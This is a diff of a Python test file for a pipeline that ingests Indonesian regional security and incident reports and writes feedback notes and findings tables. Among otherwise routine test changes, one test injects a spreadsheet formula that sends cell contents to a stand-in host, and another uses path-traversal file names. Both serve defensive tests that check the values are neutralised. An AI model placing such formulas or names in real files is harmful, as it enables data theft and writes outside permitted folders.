@@ -16,8 +16,8 @@ import pytest
 from tasks.config import WITA
 from tasks.contract.regions import regions, tps_master
 from tasks.contract.submission import column_names
-from tasks.ingest.feedback import FORMULA_START, safe_cell, write_feedback
-from tasks.ingest.judge import ingest_inbox
+from tasks.ingest.feedback import FORMULA_START, feedback_paths, safe_cell
+from tests.pipeline import ingest
 
 KAB = "6474"
 WEEK = "2024-W47"
@@ -68,14 +68,25 @@ def put(settings, rel: str, data: bytes, when: datetime = ON_TIME) -> Path:
 
 
 def run(con, settings) -> dict[str, int]:
-    """Ingest the inbox; file_id by source path."""
-    results = ingest_inbox(con, settings)
-    return {v.archived.source.source_path: fid for fid, v in results}
+    """Ingest the inbox (the flow, which writes the feedback); file_id by source path."""
+    results = ingest(settings)
+    return {v.source_path: v.file_id for v in results}
+
+
+def written_feedback(con, settings, file_ids: list[int]) -> list[Path]:
+    """The feedback files the ingest run left for `file_ids`, where the writer puts them."""
+    written: list[Path] = []
+    for file_id in file_ids:
+        ((kab, name),) = con.execute("SELECT kabkota_code, file_name FROM raw.file "
+                                     "WHERE file_id = ?", [file_id]).fetchall()
+        written += [p for p in feedback_paths(settings.outbox, kab, name, file_id)
+                    if p.is_file()]
+    return written
 
 
 def feedback(con, settings, file_id: int) -> tuple[str, list[list[str]] | None, list[Path]]:
     """The note's text and the findings CSV's rows (None when no CSV) for one file."""
-    written = write_feedback(con, [file_id], settings.outbox)
+    written = written_feedback(con, settings, [file_id])
     notes = [p for p in written if p.name.endswith(".umpan-balik.txt")]
     tables = [p for p in written if p.name.endswith(".temuan.csv")]
     assert len(notes) == 1 and len(tables) <= 1, written
@@ -104,7 +115,7 @@ def status_line(text: str) -> str:
 # the note, per status
 
 
-def test_accepted_file_gets_a_note_and_no_findings_table(warehouse, settings_env):
+def test_accepted_file_gets_a_note_and_no_findings_table(warehouse, settings_env, prefect_harness):
     data = to_csv(keamanan_rows(), "keamanan")
     rel = f"{KAB}/{KAB}_keamanan_{WEEK}.csv"
     put(settings_env, rel, data)
@@ -122,7 +133,7 @@ def test_accepted_file_gets_a_note_and_no_findings_table(warehouse, settings_env
     assert f"SHA-256: {hashlib.sha256(data).hexdigest()}" in text
 
 
-def test_flagged_file_note_lists_rows_and_messages(warehouse, settings_env):
+def test_flagged_file_note_lists_rows_and_messages(warehouse, settings_env, prefect_harness):
     rows = keamanan_rows()
     rows[1]["personel_polri"] = "abc"  # spreadsheet row 3
     rows[1]["tps_rawan"] += 4  # same row: its classes no longer add up
@@ -149,7 +160,7 @@ def test_flagged_file_note_lists_rows_and_messages(warehouse, settings_env):
     assert [r[5] for r in body] == ["nilai ini tidak dihitung"] * 2
 
 
-def test_rejected_file_note_says_why(warehouse, settings_env):
+def test_rejected_file_note_says_why(warehouse, settings_env, prefect_harness):
     rel = f"{KAB}/{KAB}_keamanan_{WEEK}.csv"
     columns = [c for c in column_names("keamanan") if c != "posko"]
     put(settings_env, rel, to_csv(keamanan_rows(), "keamanan", columns))
@@ -165,7 +176,7 @@ def test_rejected_file_note_says_why(warehouse, settings_env):
                               "(lihat format laporan).", "file ditolak"]]
 
 
-def test_unusable_name_is_rejected_with_feedback(warehouse, settings_env):
+def test_unusable_name_is_rejected_with_feedback(warehouse, settings_env, prefect_harness):
     rel = f"{KAB}/laporan minggu ini.csv"
     put(settings_env, rel, b"apa saja\n")
     ids = run(warehouse, settings_env)
@@ -176,7 +187,7 @@ def test_unusable_name_is_rejected_with_feedback(warehouse, settings_env):
     assert table is not None and len(table) == 2
 
 
-def test_late_file_note_says_terlambat(warehouse, settings_env):
+def test_late_file_note_says_terlambat(warehouse, settings_env, prefect_harness):
     rel = f"{KAB}/{KAB}_keamanan_{WEEK}.csv"
     put(settings_env, rel, to_csv(keamanan_rows(), "keamanan"), LATE)
     ids = run(warehouse, settings_env)
@@ -188,7 +199,7 @@ def test_late_file_note_says_terlambat(warehouse, settings_env):
     assert table is None
 
 
-def test_duplicate_and_superseded_notes(warehouse, settings_env):
+def test_duplicate_and_superseded_notes(warehouse, settings_env, prefect_harness):
     data = to_csv(keamanan_rows(), "keamanan")
     first, copy = f"{KAB}/{KAB}_keamanan_{WEEK}.csv", f"{KAB}/{KAB}_keamanan_{WEEK}_b.csv"
     put(settings_env, first, data)
@@ -210,7 +221,8 @@ def test_duplicate_and_superseded_notes(warehouse, settings_env):
     assert "Versi         : 2" in new_text
 
 
-def test_many_findings_note_is_capped_but_the_table_is_complete(warehouse, settings_env):
+def test_many_findings_note_is_capped_but_the_table_is_complete(warehouse, settings_env,
+                                                                prefect_harness):
     rows = insiden_rows(250)
     for r in rows:
         r["kategori"] = "pencurian"
@@ -263,7 +275,8 @@ INJECTED = {
 }
 
 
-def test_values_echoed_into_the_findings_table_cannot_be_formulas(warehouse, settings_env):
+def test_values_echoed_into_the_findings_table_cannot_be_formulas(warehouse, settings_env,
+                                                                  prefect_harness):
     rows = insiden_rows(12)
     for i, (col, value) in enumerate(INJECTED.items()):
         rows[i][col] = value  # one poisoned cell in each of five rows: 5 of 12 flagged
@@ -286,7 +299,8 @@ def test_values_echoed_into_the_findings_table_cannot_be_formulas(warehouse, set
             assert not field.lstrip(" ").startswith(tuple("=+-@")), field
 
 
-def test_injected_values_in_a_json_submission_are_neutralised(warehouse, settings_env):
+def test_injected_values_in_a_json_submission_are_neutralised(warehouse, settings_env,
+                                                              prefect_harness):
     objs = [{**r, "korban_meninggal": int(r["korban_meninggal"])} for r in insiden_rows(4)]
     objs[0]["kategori"] = "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"
     rel = f"{KAB}/{KAB}_insiden_{WEEK}.json"
@@ -313,12 +327,12 @@ ODD_NAMES = [
 HIDDEN = [f"{KAB}/..{KAB}_insiden_{WEEK}.json", f"..{KAB}/{KAB}_insiden_{WEEK}.json"]
 
 
-def test_feedback_never_leaves_the_outbox(warehouse, settings_env):
+def test_feedback_never_leaves_the_outbox(warehouse, settings_env, prefect_harness):
     for rel in ODD_NAMES + HIDDEN:
         put(settings_env, rel, b"[]")
     ids = run(warehouse, settings_env)
     assert set(ids) == set(ODD_NAMES)  # names starting with a dot are never read
-    written = write_feedback(warehouse, sorted(ids.values()), settings_env.outbox)
+    written = written_feedback(warehouse, settings_env, sorted(ids.values()))
     root = (settings_env.outbox / "feedback").resolve()
     assert len([p for p in written if p.name.endswith(".umpan-balik.txt")]) == len(ODD_NAMES)
     for p in written:
